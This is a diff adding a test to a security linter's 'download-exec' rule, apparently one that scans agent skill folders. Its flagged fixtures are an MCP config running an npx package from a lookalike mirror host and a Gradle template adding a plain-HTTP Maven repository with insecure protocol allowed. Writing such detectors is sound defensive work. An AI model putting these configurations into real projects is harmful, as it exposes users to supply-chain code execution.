@@ -2271,3 +2271,50 @@ test('sentinel/download-exec: a saved download run by another script after `&&` 
     ['scripts/install.sh:3'],
   );
 });
+
+// Issue 28 round 10 (h22/h23, first measured unseen): an MCP server whose package is an archive on another host;
+// a Gradle script of any name (a template to apply) adding a plain-HTTP Maven repository with insecure protocol allowed.
+test('download-exec (round 10): an MCP server run from an archive URL, a Gradle template with an insecure repository', () => {
+  const S = (files: Record<string, string>) => ({ folder: 'demo-skill', files });
+  ruleTester.run(rule, {
+    valid: [
+      // a remote MCP endpoint handed to mcp-remote is no package
+      S({ '.mcp.json': JSON.stringify({ mcpServers: { r: { command: 'npx', args: ['-y', 'mcp-remote', 'http://localhost:3000/sse'] } } }, null, 2) }),
+      // the registry's own tarball
+      S({
+        '.mcp.json': JSON.stringify(
+          {
+            mcpServers: {
+              pg: { command: 'npx', args: ['-y', 'https://registry.npmjs.org/@modelcontextprotocol/server-postgres/-/server-postgres-0.6.2.tgz'] },
+            },
+          },
+          null,
+          2,
+        ),
+      }),
+      S({ 'templates/repos.gradle.kts': 'repositories {\n    google()\n    mavenCentral()\n}\n' }),
+    ],
+    invalid: [
+      {
+        ...S({
+          'mcp.json': JSON.stringify(
+            {
+              mcpServers: {
+                pg: { command: 'npx', args: ['-y', 'https://registry.npmjs-mirror.invalid/@modelcontextprotocol/server-postgres/-/server-postgres-0.6.2.tgz'] },
+              },
+            },
+            null,
+            2,
+          ),
+        }),
+        errors: [{ line: 7, severity: 'error', file: 'mcp.json' }],
+      },
+      {
+        ...S({
+          'templates/mirror-repos.gradle.kts': 'maven {\n    url = uri("http://maven.accel.invalid/repository/all/")\n    isAllowInsecureProtocol = true\n}\n',
+        }),
+        errors: [{ line: 1, severity: 'error', file: 'templates/mirror-repos.gradle.kts' }],
+      },
+    ],
+  });
+});
